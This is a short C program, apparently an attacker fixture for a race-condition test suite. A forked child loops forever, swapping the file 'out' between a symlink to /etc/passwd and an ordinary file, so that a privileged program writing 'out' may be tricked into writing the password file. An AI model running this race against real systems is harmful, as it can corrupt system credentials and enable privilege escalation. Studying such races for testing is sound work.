#include "attack.h"

int main(void) {
  int fd = open("out", O_WRONLY | O_CREAT, 0644);
  write(fd, "mine", 4);
  if (fork() == 0) for (;;) { symlink("/etc/passwd", "l"); rename("l", "out"); int g = open("o", O_WRONLY | O_CREAT, 0644); write(g, "mine", 4); close(g); rename("o", "out"); }
  usleep(20000);
}
